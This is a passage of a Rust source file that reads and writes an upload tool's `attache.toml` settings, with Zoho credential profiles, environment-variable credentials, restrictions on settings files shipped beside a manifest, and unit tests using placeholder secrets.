//! Settings files: the user's own `attache.toml`, and one beside the manifest.
//!
//! The user's own holds profiles (where to, and credentials) and run settings. One beside a manifest came with the
//! manifest, perhaps from somebody else: it may set how a run is paced and checked, and nothing that would send the
//! user's files or token to another place. Values are read by hand here and not by a deserialiser, whose messages repeat
//! what they could not read: this file holds secrets.

use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::fmt;
use std::fs::{self, File};
use std::io::{self, BufRead, Read, Write};
use std::path::{Path, PathBuf};

use etcetera::BaseStrategy;
use toml_edit::{Document, DocumentMut, Item, Table, Value};
use zeroize::Zeroizing;

use super::args::{RunArgs, TargetArgs};
use super::tighten::loosening;
use crate::path_text::PathHazard;
use crate::units::{Rate, parse_bandwidth, parse_size};
use crate::zoho::{
    ApiVersion, Credentials, DataCentre, HttpError, HttpOptions, Proxies, Renewal, Secret, Where, is_private,
};

/// The name of both files.
const FILE_NAME: &str = "attache.toml";
/// The profile that is used when none is named.
pub const DEFAULT_PROFILE: &str = "default";
/// No settings file is larger; what is larger is something else.
const MAX_BYTES: u64 = 256 * 1024;

/// What is wrong with a settings file, or with where credentials come from.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct ConfigError {
    place: String,
    what: String,
}

impl ConfigError {
    fn at(path: &Path, line: Option<usize>, what: impl Into<String>) -> ConfigError {
        let place = match line {
            Some(line) => format!("{}, line {line}", path.display()),
            None => path.display().to_string(),
        };
        ConfigError { place, what: what.into() }
    }

    fn in_environment(variable: &str, what: impl Into<String>) -> ConfigError {
        ConfigError { place: format!("the environment variable {variable}"), what: what.into() }
    }
}

impl fmt::Display for ConfigError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.place, self.what)
    }
}

impl std::error::Error for ConfigError {}

/// Settings that either file may hold: pace, size and warning rules, custom modules, root.
#[derive(Clone, PartialEq, Debug, Default)]
pub struct RunSettings {
    /// As `--concurrency`.
    pub concurrency: Option<u8>,
    /// As `--rate`.
    pub rate: Option<Rate>,
    /// As `--bandwidth`.
    pub bandwidth: Option<u64>,
    /// As `--credits-per-day`.
    pub credits_per_day: Option<u64>,
    /// As `--max-size`.
    pub max_size: Option<u64>,
    /// As `--strict`.
    pub strict: Option<bool>,
    /// As `--allow-empty`.
    pub allow_empty: Option<bool>,
    /// As `--allow-identical`.
    pub allow_identical: Option<bool>,
    /// As `--allow-rounded-ids`.
    pub allow_rounded_ids: Option<bool>,
    /// As `--custom-module`.
    pub custom_modules: Vec<String>,
    /// As `--root`; from a file beside the manifest, a folder inside its own.
    pub root: Option<PathBuf>,
    /// As `--crosswalk`; from a file beside the manifest, files inside its own folder.
    pub crosswalks: Vec<PathBuf>,
}

impl RunSettings {
    /// Fills in what the command line and the environment left open.
    pub fn fill(self, run: &mut RunArgs) {
        let (pace, checks) = (&mut run.pace, &mut run.checks);
        pace.concurrency = pace.concurrency.or(self.concurrency);
        pace.rate = pace.rate.or(self.rate);
        run.run_pace.bandwidth = run.run_pace.bandwidth.or(self.bandwidth);
        run.run_pace.credits_per_day = run.run_pace.credits_per_day.or(self.credits_per_day);
        checks.max_size = checks.max_size.or(self.max_size);
        checks.strict |= self.strict.unwrap_or(false);
        checks.allow_empty |= self.allow_empty.unwrap_or(false);
        checks.allow_identical |= self.allow_identical.unwrap_or(false);
        checks.allow_rounded_ids |= self.allow_rounded_ids.unwrap_or(false);
        run.read.custom_module.extend(self.custom_modules);
        run.read.root = run.read.root.take().or(self.root);
        if run.read.crosswalk.is_empty() {
            run.read.crosswalk = self.crosswalks;
        }
    }
}

/// Puts the value of one key where it belongs, or says what would be right.
type ValueReader<T> = fn(&mut T, &Value) -> Result<(), &'static str>;

const RUN_KEYS: &[(&str, ValueReader<RunSettings>)] = &[
    ("concurrency", |run, value| {
        let number = value.as_integer().and_then(|number| u8::try_from(number).ok());
        run.concurrency =
            Some(number.filter(|number| (1..=25).contains(number)).ok_or("must be a number from 1 to 25")?);
        Ok(())
    }),
    ("rate", |run, value| {
        run.rate = Some(parsed(value, "must be a text like \"10/s\", \"90/min\" or \"none\"")?);
        Ok(())
    }),
    ("bandwidth", |run, value| {
        const WANTED: &str = "must be a text like \"5MB/s\"";
        run.bandwidth = Some(value.as_str().and_then(|text| parse_bandwidth(text).ok()).ok_or(WANTED)?);
        Ok(())
    }),
    ("credits_per_day", |run, value| {
        run.credits_per_day = Some(positive(value).ok_or("must be a number from 1")?);
        Ok(())
    }),
    ("max_size", |run, value| {
        let size = positive(value).or_else(|| value.as_str().and_then(|text| parse_size(text).ok()));
        run.max_size = Some(size.ok_or("must be a number of bytes or a text like \"95MiB\"")?);
        Ok(())
    }),
    ("strict", |run, value| {
        run.strict = Some(yes_or_no(value)?);
        Ok(())
    }),
    ("allow_empty", |run, value| {
        run.allow_empty = Some(yes_or_no(value)?);
        Ok(())
    }),
    ("allow_identical", |run, value| {
        run.allow_identical = Some(yes_or_no(value)?);
        Ok(())
    }),
    ("allow_rounded_ids", |run, value| {
        run.allow_rounded_ids = Some(yes_or_no(value)?);
        Ok(())
    }),
    ("custom_modules", |run, value| {
        run.custom_modules = texts(value)?;
        Ok(())
    }),
    ("crosswalk", |run, value| {
        let files = value.as_str().map_or_else(|| texts(value), |one| Ok(vec![one.to_owned()]));
        run.crosswalks =
            files.map_err(|_| "must be a path or a list of paths")?.into_iter().map(PathBuf::from).collect();
        Ok(())
    }),
    ("root", |run, value| {
        run.root = Some(PathBuf::from(text(value)?));
        Ok(())
    }),
];

/// What may stand in the user's own file only.
const PRIVATE_KEYS: &[&str] = &[
    "profiles",
    "profile",
    "dc",
    "api_domain",
    "accounts_url",
    "api_version",
    "ca_file",
    "proxy",
    "no_proxy",
    "client_id",
    "client_secret",
    "refresh_token",
    "access_token",
    "token_command",
    "allow_outside",
    "yes",
    "settle_time",
    "results",
];

/// Where to, and what to get in with, under one name.
#[derive(Clone, PartialEq, Debug, Default)]
pub struct Profile {
    /// Where the organisation lives.
    pub place: Where,
    /// The version of the API, where the profile names one.
    pub api_version: Option<ApiVersion>,
    /// As `--ca-file`.
    pub ca_file: Option<PathBuf>,
    /// What was granted, if the login was told.
    pub scopes: Vec<String>,
    access: Option<Secret>,
    client_id: Option<Secret>,
    client_secret: Option<Secret>,
    refresh_token: Option<Secret>,
    token_command: Option<Vec<String>>,
}

const PROFILE_KEYS: &[(&str, ValueReader<Profile>)] = &[
    ("dc", |profile, value| {
        profile.place.dc = Some(parsed(value, "must be one of us, eu, in, au, jp, cn, ca, sa, uk")?);
        Ok(())
    }),
    ("api_domain", |profile, value| {
        profile.place.api_domain = Some(text(value)?.to_owned());
        Ok(())
    }),
    ("accounts_url", |profile, value| {
        profile.place.accounts_url = Some(text(value)?.to_owned());
        Ok(())
    }),
    ("api_version", |profile, value| {
        profile.api_version = Some(parsed(value, "must be a version like \"v2\"")?);
        Ok(())
    }),
    ("ca_file", |profile, value| {
        profile.ca_file = Some(PathBuf::from(text(value)?));
        Ok(())
    }),
    ("scopes", |profile, value| {
        profile.scopes = texts(value)?;
        Ok(())
    }),
    ("access_token", |profile, value| {
        profile.access = Some(secret(value)?);
        Ok(())
    }),
    ("client_id", |profile, value| {
        profile.client_id = Some(secret(value)?);
        Ok(())
    }),
    ("client_secret", |profile, value| {
        profile.client_secret = Some(secret(value)?);
        Ok(())
    }),
    ("refresh_token", |profile, value| {
        profile.refresh_token = Some(secret(value)?);
        Ok(())
    }),
    ("token_command", |profile, value| {
        let words = texts(value).map_err(|_| "must be a list: the program and its arguments, each a text")?;
        profile.token_command = Some(words).filter(|words| !words.is_empty());
        Ok(())
    }),
];

impl Profile {
    /// What this profile gets in with.
    ///
    /// # Errors
    ///
    /// Which of the three keys of a refresh is missing.
    pub fn credentials(&self) -> Result<Credentials, String> {
        let keys = [
            ("client_id", &self.client_id),
            ("client_secret", &self.client_secret),
            ("refresh_token", &self.refresh_token),
        ];
        let renewal = match refresh(keys)? {
            Some(refresh) => Some(refresh),
            None => self.token_command.clone().map(Renewal::Command),
        };
        Ok(Credentials { access: self.access.clone(), renewal })
    }
}

/// All three or none.
fn refresh(keys: [(&str, &Option<Secret>); 3]) -> Result<Option<Renewal>, String> {
    match keys.map(|(_, value)| value.clone()) {
        [Some(client_id), Some(client_secret), Some(refresh_token)] => {
            Ok(Some(Renewal::Refresh { client_id, client_secret, refresh_token }))
        }
        [None, None, None] => Ok(None),
        _ => {
            let missing: Vec<_> = keys.iter().filter(|(_, value)| value.is_none()).map(|(name, _)| *name).collect();
            Err(format!("{} is missing; a refresh needs all three", missing.join(" and ")))
        }
    }
}

fn text(value: &Value) -> Result<&str, &'static str> {
    value.as_str().filter(|text| !text.is_empty()).ok_or("must be a text in quotes")
}

fn texts(value: &Value) -> Result<Vec<String>, &'static str> {
    const WANTED: &str = "must be a list of texts, like [\"a\", \"b\"]";
    let array = value.as_array().ok_or(WANTED)?;
    array.iter().map(|item| item.as_str().map(str::to_owned).ok_or(WANTED)).collect()
}

fn secret(value: &Value) -> Result<Secret, &'static str> {
    value.as_str().and_then(|text| Secret::new(text).ok()).ok_or("must be a text without blanks, in quotes")
}

fn parsed<T: std::str::FromStr>(value: &Value, wanted: &'static str) -> Result<T, &'static str> {
    value.as_str().and_then(|text| text.parse().ok()).ok_or(wanted)
}

fn positive(value: &Value) -> Option<u64> {
    value.as_integer().and_then(|number| u64::try_from(number).ok()).filter(|number| *number > 0)
}

fn yes_or_no(value: &Value) -> Result<bool, &'static str> {
    value.as_bool().ok_or("must be true or false")
}

/// Where in the file, in bytes.
type Span = Option<std::ops::Range<usize>>;

/// A settings file as read, for messages that name the line.
struct ConfigSource<'a> {
    path: &'a Path,
    text: &'a str,
}

impl ConfigSource<'_> {
    fn parse(&self) -> Result<Table, ConfigError> {
        // The parser's own display shows the line at fault, which may hold a secret: only its message and place are used.
        let document = Document::parse(self.text.to_owned());
        let document =
            document.map_err(|error| self.trouble(error.span(), format!("not TOML: {}", error.message())))?;
        Ok(document.into_table())
    }

    fn trouble(&self, span: Span, what: impl Into<String>) -> ConfigError {
        let line = span.map(|span| 1 + self.text.bytes().take(span.start).filter(|byte| *byte == b'\n').count());
        ConfigError::at(self.path, line, what)
    }

    /// Reads the keys of a table into `into`; `other` decides on those that are not in `known`.
    fn read<T>(
        &self,
        table: &Table,
        known: &[(&str, ValueReader<T>)],
        into: &mut T,
        mut other: impl FnMut(&str, &Item, Span) -> Result<(), ConfigError>,
    ) -> Result<(), ConfigError> {
        for (key, item) in table {
            let span = table.key(key).and_then(toml_edit::Key::span).or_else(|| item.span());
            match (known.iter().find(|(name, _)| *name == key), item.as_value()) {
                (Some((_, read)), Some(value)) => {
                    read(into, value).map_err(|wanted| self.trouble(span, format!("`{key}` {wanted}")))?;
                }
                (Some(_), None) => return Err(self.trouble(span, format!("`{key}` must be a plain value"))),
                (None, _) => other(key, item, span)?,
            }
        }
        Ok(())
    }

    fn unknown(&self, key: &str, span: Span, known: &[&str]) -> ConfigError {
        let nearest = known.iter().min_by_key(|name| strsim::damerau_levenshtein(name, key));
        let near = nearest.filter(|name| strsim::damerau_levenshtein(name, key) <= 1 + key.chars().count() / 4);
        let hint = match near {
            Some(name) => format!("did you mean `{name}`?"),
            None => format!("known are {}", known.join(", ")),
        };
        self.trouble(span, format!("there is no setting `{key}`; {hint}"))
    }
}

fn run_key_names() -> Vec<&'static str> {
    RUN_KEYS.iter().map(|(name, _)| *name).collect()
}

/// What the user's own file holds.
#[derive(Clone, PartialEq, Debug, Default)]
pub struct UserFile {
    /// Its run settings.
    pub run: RunSettings,
    /// Its profiles by name.
    pub profiles: BTreeMap<String, Profile>,
}

impl UserFile {
    /// Reads the file; one that is not there holds nothing.
    ///
    /// # Errors
    ///
    /// It cannot be read, holds something unknown, or holds profiles and can be read by others.
    pub fn load(path: &Path) -> Result<UserFile, ConfigError> {
        let Some((text, private)) = read_small(path)? else { return Ok(UserFile::default()) };
        let source = ConfigSource { path, text: &text };
        let mut user = UserFile::default();
        let mut profiles = BTreeMap::new();
        source.read(&source.parse()?, RUN_KEYS, &mut user.run, |key, item, span| match (key, item.as_table()) {
            ("profiles", Some(tables)) => read_profiles(&source, tables, &mut profiles),
            ("profiles", None) => Err(source.trouble(span, "profiles are written as [profiles.NAME]")),
            _ => Err(source.unknown(key, span, &[&run_key_names()[..], &["profiles"]].concat())),
        })?;
        if !profiles.is_empty() && !private {
            return Err(not_private(path));
        }
        user.profiles = profiles;
        Ok(user)
    }
}

fn read_profiles(
    source: &ConfigSource<'_>,
    tables: &Table,
    into: &mut BTreeMap<String, Profile>,
) -> Result<(), ConfigError> {
    let names: Vec<_> = PROFILE_KEYS.iter().map(|(name, _)| *name).collect();
    for (name, item) in tables {
        let Some(table) = item.as_table() else {
            return Err(source.trouble(item.span(), format!("the profile `{name}` must be a table")));
        };
        let mut profile = Profile::default();
        source.read(table, PROFILE_KEYS, &mut profile, |key, _, span| Err(source.unknown(key, span, &names)))?;
        into.insert(name.to_owned(), profile);
    }
    Ok(())
}

fn not_private(path: &Path) -> ConfigError {
    let how = format!("holds credentials but can be read by others; run: chmod 600 {}", path.display());
    ConfigError::at(path, None, how)
}

/// Reads the run settings beside a manifest; none if there is no such file. `own` are the user's.
///
/// # Errors
///
/// It holds anything else, allows more than the user does, or names a root outside its own folder.
pub fn beside(manifest: &Path, own: &RunSettings) -> Result<RunSettings, ConfigError> {
    let folder = manifest.parent().filter(|folder| !folder.as_os_str().is_empty()).unwrap_or(Path::new("."));
    let path = folder.join(FILE_NAME);
    let Some((text, _)) = read_small(&path)? else { return Ok(RunSettings::default()) };
    let source = ConfigSource { path: &path, text: &text };
    let mut run = RunSettings::default();
    let table = source.parse()?;
    source.read(&table, RUN_KEYS, &mut run, |key, _, span| {
        Err(if PRIVATE_KEYS.contains(&key) {
            let why = "may not stand in a file beside a manifest, since such a folder may come from anyone; use the command \
                       line, or your own attache.toml";
            source.trouble(span, format!("`{key}` {why}"))
        } else {
            source.unknown(key, span, &run_key_names())
        })
    })?;
    if let Some(loosening) = loosening(&run, own) {
        let span = table.key(loosening.key).and_then(toml_edit::Key::span);
        return Err(source.trouble(span, loosening.to_string()));
    }
    if let Some(root) = run.root.take() {
        run.root = Some(inside(folder, &root).filter(|root| root.is_dir()).ok_or_else(|| {
            let what =
                format!("`root` must be a folder inside that of the manifest, which `{}` is not", root.display());
            ConfigError::at(&path, None, what)
        })?);
    }
    for crosswalk in &mut run.crosswalks {
        *crosswalk = inside(folder, crosswalk).filter(|file| file.is_file()).ok_or_else(|| {
            let named = crosswalk.display();
            let what = format!("`crosswalk` must be a file inside the folder of the manifest, which `{named}` is not");
            ConfigError::at(&path, None, what)
        })?;
    }
    Ok(run)
}

/// The path, if something is there and lies inside, links followed.
fn inside(folder: &Path, path: &Path) -> Option<PathBuf> {
    // To look at it would be to contact whom the folder's maker chose.
    if path.to_str().is_none_or(|path| PathHazard::of(path).is_some()) {
        return None;
    }
    let joined = folder.join(path);
    let (outer, inner) = (folder.canonicalize().ok()?, joined.canonicalize().ok()?);
    inner.starts_with(outer).then_some(joined)
}

/// The text of a file and whether only its owner may read it; `None` if there is no such file.
fn read_small(path: &Path) -> Result<Option<(Zeroizing<String>, bool)>, ConfigError> {
    let trouble = |what: String| ConfigError::at(path, None, what);
    let no_settings = || trouble("is no settings file".to_owned());
    // To open a pipe is to wait for somebody at its other end.
    if path.metadata().is_ok_and(|metadata| !metadata.is_file()) {
        return Err(no_settings());
    }
    let file = match File::open(path) {
        Ok(file) => file,
        Err(error) if matches!(error.kind(), io::ErrorKind::NotFound | io::ErrorKind::NotADirectory) => {
            return Ok(None);
        }
        Err(error) => return Err(trouble(error.to_string())),
    };
    let metadata = file.metadata().map_err(|error| trouble(error.to_string()))?;
    if !metadata.is_file() || metadata.len() > MAX_BYTES {
        return Err(no_settings());
    }
    let mut text = Zeroizing::new(String::new());
    file.take(MAX_BYTES).read_to_string(&mut text).map_err(|error| trouble(error.to_string()))?;
    Ok(Some((text, is_private(&metadata))))
}

/// The user's own file: in the folder that `ATTACHE_CONFIG_DIR` names, or in the system's folder for settings.
pub fn user_file() -> Option<PathBuf> {
    let of_system = || etcetera::choose_base_strategy().ok().map(|system| system.config_dir());
    own_folder("ATTACHE_CONFIG_DIR", of_system).map(|folder| folder.join(FILE_NAME))
}

/// The folder of tokens shared between runs: in the one that `ATTACHE_CACHE_DIR` names, or in the system's for caches.
pub fn token_folder() -> Option<PathBuf> {
    let of_system = || etcetera::choose_base_strategy().ok().map(|system| system.cache_dir());
    own_folder("ATTACHE_CACHE_DIR", of_system).map(|folder| folder.join("tokens"))
}

fn own_folder(variable: &str, of_system: impl FnOnce() -> Option<PathBuf>) -> Option<PathBuf> {
    match std::env::var_os(variable).filter(|folder| !folder.is_empty()) {
        Some(folder) => Some(PathBuf::from(folder)),
        None => of_system().map(|folder| folder.join("attache")),
    }
}

/// How to connect, as the command line and the environment say.
///
/// # Errors
///
/// A proxy variable holds no usable address.
pub fn http(args: &TargetArgs, ca_file: Option<PathBuf>) -> Result<HttpOptions, HttpError> {
    let proxies = match args.no_proxy {
        true => Proxies::default(),
        false => Proxies::from_vars(|name| std::env::var(name).ok())?,
    };
    Ok(HttpOptions { ca_file, proxies, ..HttpOptions::default() })
}

/// Where to, what to get in with, and which authority to trust.
#[derive(Clone, PartialEq, Debug)]
pub struct Access {
    /// Where to, as far as named.
    pub place: Where,
    /// What to get in with; may be nothing.
    pub credentials: Credentials,
    /// As `--ca-file`.
    pub ca_file: Option<PathBuf>,
    /// Where the credentials come from, for people.
    pub source: String,
    /// Scopes that the profile says were granted.
    pub scopes: Vec<String>,
}

/// Puts together what the command line, the environment and the user's file say.
///
/// A profile that is named wins over credentials in the environment; one that is merely there, under the name `default`,
/// does not. An address on the command line replaces the profile's as a whole, so that a data centre of one and a token
/// server of the other never mix.
///
/// # Errors
///
/// A profile that is not there, incomplete or malformed credentials, a file that others can read.
pub fn access(
    args: &TargetArgs,
    user: &UserFile,
    var: impl Fn(&str) -> Option<String>,
    stdin: impl BufRead,
) -> Result<Access, ConfigError> {
    let named = args.profile.as_deref();
    let name = named.unwrap_or(DEFAULT_PROFILE);
    let profile = user.profiles.get(name);
    if named.is_some() && profile.is_none() {
        let known: Vec<_> = user.profiles.keys().map(String::as_str).collect();
        let known = if known.is_empty() {
            "none are stored yet".to_owned()
        } else {
            format!("stored are {}", known.join(", "))
        };
        return Err(ConfigError {
            place: format!("--profile {name}"),
            what: format!("there is no such profile; {known}"),
        });
    }
    let no_profile = Profile::default();
    let profile = profile.unwrap_or(&no_profile);
    let of_profile = || -> Result<(Credentials, String), ConfigError> {
        let place = format!("profile {name}");
        let credentials = profile.credentials().map_err(|what| ConfigError { place: place.clone(), what })?;
        Ok((credentials, place))
    };
    let (credentials, source) = match named {
        Some(_) => of_profile()?,
        None => match from_environment(&var, stdin)? {
            Some(found) => found,
            None => of_profile()?,
        },
    };
    let by_args = args.dc.is_some() || args.api_domain.is_some() || args.accounts_url.is_some();
    let place = if by_args {
        Where {
            dc: args.dc,
            api_domain: args.api_domain.clone(),
            accounts_url: args.accounts_url.clone(),
            version: ApiVersion::default(),
        }
    } else {
        profile.place.clone()
    };
    let version = args.api_version.or(profile.api_version).unwrap_or_default();
    Ok(Access {
        place: Where { version, ..place },
        credentials,
        ca_file: args.ca_file.clone().or_else(|| profile.ca_file.clone()),
        source,
        scopes: profile.scopes.clone(),
    })
}

/// `ZOHO_ACCESS_TOKEN` (`-`: the first line of standard input), the three variables of a refresh, or a file of them.
fn from_environment(
    var: &impl Fn(&str) -> Option<String>,
    stdin: impl BufRead,
) -> Result<Option<(Credentials, String)>, ConfigError> {
    let set = |name: &str| var(name).filter(|value| !value.trim().is_empty());
    let secret_in = |name: &str| -> Result<Option<Secret>, ConfigError> {
        let secret = set(name).map(Secret::new).transpose();
        secret.map_err(|wrong| ConfigError::in_environment(name, wrong.to_string()))
    };
    let access = match set("ZOHO_ACCESS_TOKEN").as_deref().map(str::trim) {
        Some("-") => Some(first_line(stdin)?),
        _ => secret_in("ZOHO_ACCESS_TOKEN")?,
    };
    let names = ["ZOHO_CLIENT_ID", "ZOHO_CLIENT_SECRET", "ZOHO_REFRESH_TOKEN"];
    let [id, client_secret, token] = names.map(secret_in);
    let keys = [(names[0], &id?), (names[1], &client_secret?), (names[2], &token?)];
    let renewal = refresh(keys).map_err(|what| ConfigError { place: "the environment".to_owned(), what })?;
    if access.is_some() || renewal.is_some() {
        return Ok(Some((Credentials { access, renewal }, "environment".to_owned())));
    }
    let Some(path) = set("ZOHO_CREDENTIALS_FILE").map(PathBuf::from) else { return Ok(None) };
    credentials_file(&path).map(|credentials| Some((credentials, path.display().to_string())))
}

fn first_line(stdin: impl BufRead) -> Result<Secret, ConfigError> {
    let trouble = |what: String| ConfigError { place: "the token on standard input".to_owned(), what };
    let mut line = Zeroizing::new(Vec::new());
    stdin.take(4096).read_until(b'\n', &mut line).map_err(|error| trouble(error.to_string()))?;
    let text = std::str::from_utf8(&line).unwrap_or_default();
    Secret::new(text).map_err(|wrong| trouble(wrong.to_string()))
}

/// A file with the keys of a profile and nothing else.
fn credentials_file(path: &Path) -> Result<Credentials, ConfigError> {
    let missing = || ConfigError::at(path, None, "there is no such file, but ZOHO_CREDENTIALS_FILE names it");
    let (text, private) = read_small(path)?.ok_or_else(missing)?;
    if !private {
        return Err(not_private(path));
    }
    let source = ConfigSource { path, text: &text };
    let mut profile = Profile::default();
    let names: Vec<_> = PROFILE_KEYS.iter().map(|(name, _)| *name).collect();
    source.read(&source.parse()?, PROFILE_KEYS, &mut profile, |key, _, span| Err(source.unknown(key, span, &names)))?;
    profile.credentials().map_err(|what| ConfigError::at(path, None, what))
}

/// What a login stores.
#[derive(Debug)]
pub struct NewProfile<'a> {
    /// Where the organisation lives.
    pub place: &'a Where,
    /// The client and its refresh token.
    pub client_id: &'a Secret,
    /// The client's secret.
    pub client_secret: &'a Secret,
    /// Its refresh token.
    pub refresh_token: &'a Secret,
    /// What was granted, if known.
    pub scopes: &'a [String],
}

/// Stores a profile; what else stands in the file stays as it is, comments included.
///
/// # Errors
///
/// The file cannot be read as TOML or not be written.
pub fn store_profile(path: &Path, name: &str, new: &NewProfile<'_>) -> Result<(), ConfigError> {
    edit(path, |profiles| {
        let mut table = Table::new();
        let mut put = |key: &str, value: Option<&str>| {
            if let Some(value) = value {
                table.insert(key, toml_edit::value(value));
            }
        };
        put("dc", new.place.dc.map(DataCentre::as_str));
        put("api_domain", new.place.api_domain.as_deref());
        put("accounts_url", new.place.accounts_url.as_deref());
        put("client_id", Some(new.client_id.expose()));
        put("client_secret", Some(new.client_secret.expose()));
        put("refresh_token", Some(new.refresh_token.expose()));
        if !new.scopes.is_empty() {
            table.insert("scopes", toml_edit::value(new.scopes.iter().collect::<toml_edit::Array>()));
        }
        profiles.insert(name, Item::Table(table));
        true
    })
    .map(|_| ())
}

/// Removes a profile; says whether there was one.
///
/// # Errors
///
/// The file cannot be read as TOML or not be written.
pub fn remove_profile(path: &Path, name: &str) -> Result<bool, ConfigError> {
    edit(path, |profiles| profiles.remove(name).is_some())
}

/// Changes the table of profiles; writes only if `change` says that it did.
fn edit(path: &Path, change: impl FnOnce(&mut Table) -> bool) -> Result<bool, ConfigError> {
    let trouble = |what: String| ConfigError::at(path, None, what);
    let text = read_small(path)?.map(|(text, _)| text).unwrap_or_default();
    let mut document: DocumentMut = text.parse().map_err(|error: toml_edit::TomlError| {
        let source = ConfigSource { path, text: &text };
        source.trouble(error.span(), format!("not TOML: {}", error.message()))
    })?;
    let mut empty = Table::new();
    empty.set_implicit(true);
    let profiles = document.entry("profiles").or_insert(Item::Table(empty));
    let profiles = profiles.as_table_mut().ok_or_else(|| trouble("`profiles` is not a table".to_owned()))?;
    if !change(profiles) {
        return Ok(false);
    }
    write_private(path, &Zeroizing::new(document.to_string())).map_err(|error| trouble(error.to_string()))?;
    Ok(true)
}

/// As a whole or not at all, readable by its owner alone.
fn write_private(path: &Path, text: &str) -> io::Result<()> {
    let folder = path.parent().unwrap_or(Path::new("."));
    fs::create_dir_all(folder)?;
    let mut file = tempfile::Builder::new().prefix(OsStr::new(".attache")).tempfile_in(folder)?;
    file.write_all(text.as_bytes())?;
    file.as_file().sync_all()?;
    file.persist(path)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const PROFILE: &str = r#"
# mine
concurrency = 3

[profiles.default]
dc = "eu"
client_id = "1000.ID"
client_secret = "hush"
refresh_token = "1000.refresh.hush"

[profiles.portal]
api_domain = "https://zylker.zohoplatform.com"
api_version = "v2.1"
token_command = ["pass", "show", "zoho"]
"#;

    struct TestFolder(tempfile::TempDir);

    impl TestFolder {
        fn with(text: &str) -> TestFolder {
            let folder = tempfile::tempdir().expect("a folder");
            write_private(&folder.path().join(FILE_NAME), text).expect("written");
            TestFolder(folder)
        }

        fn file(&self) -> PathBuf {
            self.0.path().join(FILE_NAME)
        }

        fn user(&self) -> Result<UserFile, ConfigError> {
            UserFile::load(&self.file())
        }

        fn beside(&self) -> Result<RunSettings, ConfigError> {
            beside(&self.0.path().join("uploads.csv"), &RunSettings::default())
        }
    }

    /// Without the path, which differs from run to run.
    fn said<T>(result: Result<T, ConfigError>) -> String {
        match result {
            Ok(_) => panic!("accepted"),
            Err(error) => format!("{}: {}", error.place.rsplit(['/', '\\']).next().unwrap_or_default(), error.what),
        }
    }

    fn secret(text: &str) -> Secret {
        Secret::new(text).expect("a secret")
    }

    fn access_with(args: &TargetArgs, user: &UserFile, vars: &[(&str, &str)]) -> Result<Access, ConfigError> {
        let var = |name: &str| vars.iter().find(|(known, _)| *known == name).map(|(_, value)| (*value).to_owned());
        access(args, user, var, &b"1000.stdin\nrest"[..])
    }

    fn named(profile: &str) -> TargetArgs {
        TargetArgs { profile: Some(profile.to_owned()), ..TargetArgs::default() }
    }

    #[test]
    fn the_users_file_holds_profiles_and_run_settings() {
        let user = TestFolder::with(PROFILE).user().expect("readable");
        assert_eq!(user.run.concurrency, Some(3));
        assert_eq!(user.profiles.keys().collect::<Vec<_>>(), ["default", "portal"]);
        let found = access_with(&TargetArgs::default(), &user, &[]).expect("access");
        assert_eq!((found.place.dc, found.source.as_str()), (Some(DataCentre::Eu), "profile default"));
        assert!(matches!(found.credentials.renewal, Some(Renewal::Refresh { .. })));
        let portal = access_with(&named("portal"), &user, &[]).expect("access");
        assert_eq!(portal.place.version.to_string(), "v2.1");
        assert!(matches!(portal.credentials.renewal, Some(Renewal::Command(words)) if words.len() == 3));
    }

    #[test]
    fn the_environment_comes_before_a_profile_that_nobody_named() {
        let user = TestFolder::with(PROFILE).user().expect("readable");
        let token = [("ZOHO_ACCESS_TOKEN", "1000.env\n")];
        let found = access_with(&TargetArgs::default(), &user, &token).expect("access");
        assert_eq!((found.credentials.access, found.source.as_str()), (Some(secret("1000.env")), "environment"));
        // The place is still the profile's: nothing else names one.
        assert_eq!(found.place.dc, Some(DataCentre::Eu));
        let typed = access_with(&named("default"), &user, &token).expect("access");
        assert_eq!((typed.credentials.access, typed.source.as_str()), (None, "profile default"));
        let stdin = access_with(&TargetArgs::default(), &user, &[("ZOHO_ACCESS_TOKEN", "-")]).expect("access");
        assert_eq!(stdin.credentials.access, Some(secret("1000.stdin")));
    }

    #[test]
    fn an_address_on_the_command_line_replaces_the_profiles_as_a_whole() {
        let user = TestFolder::with(PROFILE).user().expect("readable");
        let args = TargetArgs { dc: Some(DataCentre::In), ..named("portal") };
        let found = access_with(&args, &user, &[]).expect("access");
        assert_eq!((found.place.dc, found.place.api_domain), (Some(DataCentre::In), None));
    }

    #[test]
    fn incomplete_or_malformed_credentials_are_named_and_not_shown() {
        let none = UserFile::default();
        let vars = |vars: &[(&str, &str)]| said(access_with(&TargetArgs::default(), &none, vars));
        assert_eq!(
            vars(&[("ZOHO_CLIENT_ID", "1000.hush"), ("ZOHO_REFRESH_TOKEN", "hush")]),
            "the environment: ZOHO_CLIENT_SECRET is missing; a refresh needs all three"
        );
        let blank = vars(&[("ZOHO_ACCESS_TOKEN", "Zoho-oauthtoken 1000.hush")]);
        assert!(
            blank.starts_with("the environment variable ZOHO_ACCESS_TOKEN: ") && !blank.contains("hush"),
            "{blank}"
        );
        assert_eq!(
            said(access_with(&named("portal"), &none, &[])),
            "--profile portal: there is no such profile; none are stored yet"
        );
        for text in [
            "[profiles.a]\nclient_secret = 5",
            "[profiles.a]\nclient_secret = \"hush hush\"",
            "[profiles.a]\nclient_secret = [\"hush\"]",
            "[profiles.a]\nclient_secret = \"hush",
            "[profiles.a]\nclient_secret = hush",
            "[profiles]\na = \"hush\"",
            "profiles = \"hush\"",
        ] {
            let error = said(TestFolder::with(text).user());
            assert!(!error.contains("hush"), "{error}");
            assert!(error.starts_with("attache.toml, line "), "{error}");
        }
    }

    #[test]
    fn a_credentials_file_is_read_when_the_environment_names_one() {
        let folder = TestFolder::with("client_id = \"a\"\nclient_secret = \"b\"\nrefresh_token = \"c\"");
        let path = folder.file().display().to_string();
        let vars = [("ZOHO_CREDENTIALS_FILE", path.as_str())];
        let found = access_with(&TargetArgs::default(), &UserFile::default(), &vars).expect("access");
        assert!(matches!(found.credentials.renewal, Some(Renewal::Refresh { .. })));
    }

    #[cfg(unix)]
    #[test]
    fn a_file_with_credentials_that_others_can_read_is_refused() {
        use std::os::unix::fs::PermissionsExt;
        let folder = TestFolder::with(PROFILE);
        fs::set_permissions(folder.file(), fs::Permissions::from_mode(0o640)).expect("permissions");
        assert!(said(folder.user()).contains("chmod 600"));
        let path = folder.file().display().to_string();
        let vars = [("ZOHO_CREDENTIALS_FILE", path.as_str())];
